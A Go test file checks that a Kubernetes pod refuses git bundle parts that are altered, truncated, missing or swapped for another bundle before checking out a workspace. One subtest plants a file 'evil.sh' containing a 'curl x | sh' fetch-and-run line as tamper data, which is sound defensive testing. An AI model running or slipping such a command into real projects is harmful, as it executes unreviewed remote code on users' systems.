package kube_test

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/seed-e4e525a6/baton/engine/child/kube"
)

const partsRef = "refs/baton/kube/parts"

// workspaceBundle is a git bundle of a repository of files, at
// partsRef, larger than one part.
func workspaceBundle(t *testing.T, files map[string]string) []byte {
	t.Helper()
	dir := t.TempDir()
	gitRepo(t, dir, files)
	file := filepath.Join(t.TempDir(), "ws.bundle")
	for _, args := range [][]string{{"update-ref", partsRef, "HEAD"}, {"bundle", "create", "-q", file, partsRef}} {
		if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if len(data) <= kube.PartSize {
		t.Fatalf("the bundle is %d bytes, want more than a part", len(data))
	}
	return data
}

// servePod runs the pod side with parts as the ConfigMaps' files and
// digest as the Secret's, and returns its status, what it said, and the
// workspace folder.
func servePod(t *testing.T, parts [][]byte, digest kube.BundleDigest) (int, string, string) {
	t.Helper()
	dir := t.TempDir()
	var paths []string
	for i, p := range parts {
		path := filepath.Join(dir, strconv.Itoa(i), "part")
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, p, 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, path)
	}
	spec, digestFile := filepath.Join(dir, "spec.json"), filepath.Join(dir, "workspace.json")
	// No spec in it: the child stops right after the checkout.
	if err := os.WriteFile(spec, []byte("{}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(digestFile, digest.Marshal(), 0o600); err != nil {
		t.Fatal(err)
	}
	ws := filepath.Join(dir, "ws")
	env := map[string]string{kube.EnvSpec: spec, kube.EnvBundleParts: kube.BundleParts(paths), kube.EnvBundleDigest: digestFile,
		kube.EnvRef: partsRef, kube.EnvWorkspace: ws}
	var out, errs bytes.Buffer
	code := kube.ServePod(func(k string) string { return env[k] }, strings.NewReader(""), &out, &errs)
	return code, errs.String(), ws
}

// The pod joins the bundle's parts in order and checks the whole
// against the Secret's digest before it checks anything out: a part
// changed in its ConfigMap, another bundle put in their place, or a
// part gone is refused, and nothing of it reaches the workspace.
func TestThePodChecksTheBundlesPartsAgainstTheDigest(t *testing.T) {
	files := map[string]string{"notes.txt": "hello from the host\n", blobName: string(blob)}
	bundle := workspaceBundle(t, files)
	digest := kube.DigestOf(bundle)
	parts := kube.SplitBundle(bundle)
	if len(parts) != 2 || digest.Parts != 2 {
		t.Fatalf("%d parts (digest %d), want 2", len(parts), digest.Parts)
	}

	t.Run("whole parts are checked out", func(t *testing.T) {
		_, errs, ws := servePod(t, parts, digest)
		if got, err := os.ReadFile(filepath.Join(ws, blobName)); err != nil || !bytes.Equal(got, blob) {
			t.Fatalf("the workspace's %s is not the host's (%v): %s", blobName, err, errs)
		}
	})
	refused := func(t *testing.T, parts [][]byte, want string) {
		t.Helper()
		code, errs, ws := servePod(t, parts, digest)
		if code != 2 || !strings.Contains(errs, want) {
			t.Errorf("status %d, stderr %q; want 2 and %q", code, errs, want)
		}
		if entries, _ := os.ReadDir(ws); len(entries) != 0 {
			t.Errorf("the workspace holds %d entries, want nothing checked out", len(entries))
		}
	}
	t.Run("a changed byte", func(t *testing.T) {
		changed := bytes.Clone(parts[1])
		changed[len(changed)/2] ^= 0xff
		refused(t, [][]byte{parts[0], changed}, "do not match the digest baton sent")
	})
	t.Run("another bundle of the same ref", func(t *testing.T) {
		evil := workspaceBundle(t, map[string]string{"notes.txt": "hello from the host\n", "evil.sh": "curl x | sh\n", blobName: string(blob)})
		refused(t, kube.SplitBundle(evil), "digest")
	})
	t.Run("a part gone", func(t *testing.T) {
		refused(t, parts[:1], "comes in 1 parts, its digest says 2")
	})
	t.Run("a part cut short", func(t *testing.T) {
		refused(t, [][]byte{parts[0], parts[1][:len(parts[1])-1]}, "its digest gives")
	})
}
